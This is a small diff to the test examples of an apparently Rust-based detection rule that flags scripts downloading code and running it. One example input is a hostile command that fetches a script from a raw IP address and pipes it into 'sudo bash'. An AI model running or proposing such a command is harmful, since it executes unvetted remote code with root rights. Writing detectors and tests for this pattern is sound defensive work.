@@ -43,7 +43,7 @@ pub static RULE: Rule = Rule {
         Example {
             name: "pipe-number",
             files: || script("wget -qO- https://192.0.2.7/demo | sudo bash"),
-            fires: ID,
+            fires: &["address-raw", "command-runs-download"],
         },
         Example {
             name: "pipe-through",
